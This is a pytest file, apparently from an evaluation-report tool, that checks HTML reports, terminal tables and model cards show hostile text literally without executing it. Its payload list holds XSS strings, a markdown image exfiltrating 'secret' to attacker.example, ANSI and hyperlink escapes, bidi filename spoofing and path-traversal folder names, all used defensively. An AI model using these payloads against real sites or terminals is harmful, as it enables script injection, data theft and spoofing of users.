"""Foreign text in everything that is shown (table U): it is read, it never acts, and it looks like what it is."""

from __future__ import annotations

import dataclasses
import html
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from accordeur.app.check_page import render
from accordeur.app.check_run import Checked
from accordeur.audit import Audit, Finding
from accordeur.compare.prepare import slug
from accordeur.report import build_report, model_card
from accordeur.report.html import render_html
from accordeur.report.table import rich_table, verdict_text
from accordeur.run import Run
from accordeur.store import write_json
from tests.report.fake import about, answered, done_run, write_run
from tests.report.test_html import Page

ACTS = "document.title='acted'"
# id, the text, what of it must be seen as it stands (None: all of it)
PAYLOADS: list[tuple[str, str, str | None]] = [
    ("U01-script", f"<script>{ACTS}</script>", None),
    ("U01-closing", f"</style></script></title></table><script>{ACTS}</script>", None),
    ("U01-image", f"<img src=x onerror=\"{ACTS}\">", None),
    ("U01-svg", f"<svg onload=\"{ACTS}\"></svg>", None),
    ("U01-attribute", f"\"' onmouseover=\"{ACTS}\" x='", None),
    ("U01-link", f"<a href=\"javascript:{ACTS}\">here</a>", None),
    ("U02-image", "![x](http://attacker.example/?q=secret)", None),
    ("U02-link", "[x](http://attacker.example) http://attacker.example", None),
    ("U03-directive", ":red[x] :material/home: $$x^2$$", None),
    ("U03-entity", "&lt;b&gt; &amp; &#0;", None),
    ("U03-template", "{{ 7 * 7 }} {% raw %} ${HOME}", None),
    ("U05-colour", "\x1b[31mred\x1b[0m", "\\x1b[31mred"),
    ("U05-return", "first\rsecond", "\\x0d"),
    ("U05-link", "\x1b]8;;http://attacker.example\x07x\x1b]8;;\x07", "\\x1b]8"),
    ("U12-override", "cod\u202egnp.exe", "cod\\u202egnp.exe"),
    ("U12-isolate", "\u2066x\u2069", "\\u2066x\\u2069"),
]  # fmt: skip
CASES = [pytest.param(text, seen, id=name) for name, text, seen in PAYLOADS]


def hostile(out: Path, text: str) -> dict[str, Any]:
    """The report of a folder in which every name, answer, note and setting is this text."""
    labels = sorted({row.expected for row in answered("test", 0.9, 40, 0)})
    swap = {labels[0]: text}
    task = {**about([], 40)["task"], "name": text, "labels": [swap.get(label, label) for label in labels]}
    base = {"name": text, "family": text, "parameters": 1}
    audit = Audit(kind=text, rows={text: 1}, findings=(found(text),), facts={})
    changed = {"task": task, "base": base, "command": text, "notes": [text], "planned": [], "audit": audit.as_dict()}
    write_json(out / "task.json", {**about([], 40), **changed, "summary": {text: text, "found": [{text: text}]}})
    for seed, accuracy in enumerate((0.9, 0.5)):
        rows = [
            dataclasses.replace(
                row, id=text + row.id, given=text, expected=swap.get(row.expected, row.expected), output=text, scores=None
            )
            for row in answered("test", accuracy, 40, 0)
        ]
        run = dataclasses.replace(
            done_run("lora", 0), name=f"run{seed}", method=text + str(seed), settings={text: text}, facts={text: {text: text}}
        )
        write_run(out, run, rows, rows)
    write_run(out, Run(name="broken", method="full" + text, seed=0, status="failed", reason=text))
    return build_report(out)


def found(text: str) -> Finding:
    """A finding whose rows and values are this text."""
    return Finding(code="leaked-rows", severity="error", count=2, rows=(text,), values={"part": text, "other": text})


def audit_page(text: str) -> str:
    """The page of `accordeur check` on data of that name."""
    audit = Audit(kind=text, rows={text: 1}, findings=(found(text),), facts={"rows": {text: 1}, "classes": {text: {text: 1}}})
    return render(Checked(name=text, file=Path(text.replace("\0", "")), test=None, audit=audit), "en")


def acts_not(page: str, text: str, seen: str | None) -> None:
    read = Page(page)
    assert len(read.of("script")) == 1
    assert not [tag for tag in ("img", "iframe", "object", "link", "form") if read.of(tag)]
    assert not [key for _, attributes in read.elements for key in attributes if key.startswith("on")]
    assert {attributes["href"][:1] for attributes in read.of("a")} <= {"#"}
    assert not set(read.text) & {"\x1b", "\r", "\u202e", "\u2066", "\x07"}
    assert (seen or text) in read.text


@pytest.mark.parametrize(("text", "seen"), CASES)
def test_pages_show_it_and_nothing_acts(tmp_path: Path, text: str, seen: str | None) -> None:
    acts_not(render_html(hostile(tmp_path, text), tmp_path / "out"), text, seen)
    acts_not(audit_page(text), text, seen)


@pytest.mark.parametrize(("text", "seen"), CASES)
def test_the_terminal_and_the_card_are_not_taken_over(tmp_path: Path, text: str, seen: str | None) -> None:
    report = hostile(tmp_path, text)
    console = Console(width=400, record=True, file=open("/dev/null", "w"))  # noqa: SIM115
    console.print(rich_table(report, 400))
    console.print(verdict_text(report))
    said = console.export_text()
    assert not set(said) & {"\x1b", "\r", "\u202e", "\u2066", "\x07"}
    assert (seen or text.split()[0][:12]) in said
    card = model_card(report, "run0")
    body = card.split("---\n", 2)[2]
    told = re.sub(r"`[^`\n]*`", "", body)  # what stands between backticks is shown as it is
    assert not [tag for tag in ("<script", "<img", "<svg", "<a ") if tag in told]
    assert not set(card) & {"\x1b", "\u202e", "\u2066"}


@pytest.mark.skipif(not (CHROMIUM := shutil.which("chromium")), reason="no browser here")
def test_a_browser_runs_none_of_it(tmp_path: Path) -> None:
    everything = " ".join(text for _, text, _ in PAYLOADS)
    for name, page in (
        ("report", render_html(hostile(tmp_path / "out", everything), tmp_path / "out")),
        ("check", audit_page(everything)),
    ):
        path = tmp_path / f"{name}.html"
        path.write_text(page, encoding="utf-8")
        command = [str(CHROMIUM), "--headless=new", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path}/profile"]
        command += ["--virtual-time-budget=2000", "--dump-dom", path.as_uri()]
        dom = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True).stdout
        title = html.unescape(dom.partition("<title>")[2].partition("</title>")[0])
        assert "acted" not in title.replace(ACTS, "")
        assert "attacker.example" in dom
        assert "<img" not in dom


@pytest.mark.parametrize("name", ["../x", "a/b", ".", "..", "", "🎻", "x" * 240, "-rf", "CON", "a\\b", "\u202ex"])
def test_a_folder_is_named_by_safe_letters(name: str) -> None:  # U06
    found_name = slug(name)
    assert found_name and found_name[0] not in ".-" and len(found_name.encode()) <= 255
    assert not set(found_name) & set("/\\\u202e")
